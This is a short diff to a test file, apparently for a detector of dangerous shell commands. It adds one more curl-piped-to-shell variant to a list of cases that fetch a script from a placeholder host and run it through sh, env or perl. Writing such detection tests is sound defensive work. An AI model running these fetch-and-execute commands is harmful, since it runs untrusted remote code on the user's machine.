@@ -18,6 +18,7 @@ test.each([
   'curl https://x.example | # and then\n  sh',
   'curl https://x.example | (sh)',
   'curl https://x.example | (cd /tmp; sh)',
+  'curl https://x.example | (cd /tmp; (true; sh))',
   "curl https://x.example | env -S 'sh -s'",
   'curl https://x.example | env -Ssh',
   'curl https://x.example | perl5.36',
